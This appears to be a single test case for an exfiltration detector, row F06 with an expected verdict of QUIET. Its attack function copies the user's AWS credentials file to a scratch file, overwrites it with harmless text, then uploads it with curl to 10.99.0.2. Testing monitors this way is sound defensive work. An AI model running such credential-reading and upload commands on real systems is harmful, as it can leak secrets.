# SPDX-License-Identifier: Apache-2.0
TITLE="a file that once held a copy, emptied and written anew by a clean process, may be sent"
ROW="F06"
VERDICT=QUIET
attack() {
	sh -c 'cat "$HOME/.aws/credentials" >scratch'
	sh -c 'echo nothing of it >scratch'
	sh -c 'curl -s -m 5 --data-binary @scratch http://10.99.0.2/'
}
